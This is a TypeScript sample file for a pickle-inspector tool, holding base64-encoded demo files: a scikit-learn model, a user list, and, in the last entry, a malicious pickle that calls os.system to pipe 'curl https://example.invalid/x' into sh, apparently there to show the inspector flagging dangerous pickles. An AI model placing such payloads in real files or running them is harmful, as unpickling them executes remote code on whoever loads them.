/** Files to try the inspector with, as base64: the first two are those of examples/data, byte for byte, which a test checks. */

export interface Sample {
  readonly name: string;
  /** How its button reads. */
  readonly title: string;
  readonly base64: string;
}

export const SAMPLES: readonly Sample[] = [
  {
    name: "iris.pkl",
    title: "a scikit-learn model",
    base64:
      "gASVXAUAAAAAAACMEHNrbGVhcm4ucGlwZWxpbmWUjAhQaXBlbGluZZSTlCmBlH2UKIwFc3RlcHOUXZQojAVzY2Fs" +
      "ZZSMG3NrbGVhcm4ucHJlcHJvY2Vzc2luZy5fZGF0YZSMDlN0YW5kYXJkU2NhbGVylJOUKYGUfZQojAl3aXRoX21l" +
      "YW6UiIwId2l0aF9zdGSUiIwEY29weZSIjA5uX2ZlYXR1cmVzX2luX5RLBIwPbl9zYW1wbGVzX3NlZW5flIwWbnVt" +
      "cHkuX2NvcmUubXVsdGlhcnJheZSMBnNjYWxhcpSTlIwFbnVtcHmUjAVkdHlwZZSTlIwCZjiUiYiHlFKUKEsDjAE8" +
      "lE5OTkr/////Sv////9LAHSUYkMIAAAAAADAYkCUhpRSlIwFbWVhbl+UaBKMDF9yZWNvbnN0cnVjdJSTlGgVjAdu" +
      "ZGFycmF5lJOUSwCFlEMBYpSHlFKUKEsBSwSFlGgaiUMgYSz5xZJfF0BEGb0ta3UIQLDx0k1iEA5AmrU6Jngw8z+U" +
      "dJRijAR2YXJflGgiaCRLAIWUaCaHlFKUKEsBSwSFlGgaiUMgyL6g1MDL5T9IRA5zvifIP+4c8OaWwwhAMylnZN93" +
      "4j+UdJRijAZzY2FsZV+UaCJoJEsAhZRoJoeUUpQoSwFLBIWUaBqJQyAbCjJB3mjqP3Sm3Khjzds/D0Wv4IQm/D8s" +
      "RPvpZk/oP5R0lGKMEF9za2xlYXJuX3ZlcnNpb26UjAUxLjkuMZR1YoaUjAhjbGFzc2lmeZSMHnNrbGVhcm4ubGlu" +
      "ZWFyX21vZGVsLl9sb2dpc3RpY5SMEkxvZ2lzdGljUmVncmVzc2lvbpSTlCmBlH2UKIwHcGVuYWx0eZSMCmRlcHJl" +
      "Y2F0ZWSUjAFDlEc/8AAAAAAAAIwIbDFfcmF0aW+URwAAAAAAAAAAjARkdWFslImMA3RvbJRHPxo24uscQy2MDWZp" +
      "dF9pbnRlcmNlcHSUiIwRaW50ZXJjZXB0X3NjYWxpbmeUSwGMDGNsYXNzX3dlaWdodJROjAxyYW5kb21fc3RhdGWU" +
      "TowGc29sdmVylIwFbGJmZ3OUjAhtYXhfaXRlcpRN9AGMB3ZlcmJvc2WUSwCMCndhcm1fc3RhcnSUiYwGbl9qb2Jz" +
      "lE5oEEsEjAhjbGFzc2VzX5RoImgkSwCFlGgmh5RSlChLAUsDhZRoF4wDVTEwlImIh5RSlChLA2gbTk5OSyhLBEsI" +
      "dJRiiUN4cwAAAGUAAAB0AAAAbwAAAHMAAABhAAAAAAAAAAAAAAAAAAAAAAAAAHYAAABlAAAAcgAAAHMAAABpAAAA" +
      "YwAAAG8AAABsAAAAbwAAAHIAAAB2AAAAaQAAAHIAAABnAAAAaQAAAG4AAABpAAAAYwAAAGEAAAAAAAAAlHSUYowH" +
      "bl9pdGVyX5RoImgkSwCFlGgmh5RSlChLAUsBhZRoF4wCaTSUiYiHlFKUKEsDaBtOTk5K/////0r/////SwB0lGKJ" +
      "QwQRAAAAlHSUYowFY29lZl+UaCJoJEsAhZRoJoeUUpQoSwFLA0sEhpRoGohDYOTTXe+4OfG/71jd66jg4j+onbzl" +
      "kSXfP0e4Q8dxjvI/kiFSbG0117/DX17YLILpvwsO38Wq2f6/8DVTSdJV17/E7Rmsj1cCQCsuXgsS//y/55Pjw812" +
      "6r8P/Kd2PB0FQJR0lGKMCmludGVyY2VwdF+UaCJoJEsAhZRoJoeUUpQoSwFLA4WUaBqJQxgJhuITnDHKv440lwuy" +
      "mABAVBiylDDr/b+UdJRiaDpoO3VihpRljA90cmFuc2Zvcm1faW5wdXSUTowGbWVtb3J5lE5oUIloOmg7dWIu",
  },
  {
    name: "users.pkl",
    title: "a list of users",
    base64:
      "gASV3QAAAAAAAABdlH2UKIwCaWSUigcBAAAAAAAgjARuYW1llIwEWm/Dq5SMBmpvaW5lZJSMCGRhdGV0aW1llIwI" +
      "ZGF0ZXRpbWWUk5RDCgfoAh0MHgAAAACUaAaMCHRpbWV6b25llJOUaAaMCXRpbWVkZWx0YZSTlEsASwBLAIeUUpSF" +
      "lFKUhpRSlIwHYmFsYW5jZZSMB2RlY2ltYWyUjAdEZWNpbWFslJOUjAUxMC4xMJSFlFKUjAR0YWdzlI+UKIwFYWRt" +
      "aW6UkIwEaG9tZZRHQEovXCj1wo9HQBOPXCj1wo+GlHVhLg==",
  },
  {
    // os.system("curl https://example.invalid/x | sh"), as text: a name that no resolver answers.
    name: "surprise.pkl",
    title: "a pickle that runs a command",
    base64: "Y29zCnN5c3RlbQooUydjdXJsIGh0dHBzOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaCcKdFIu",
  },
];
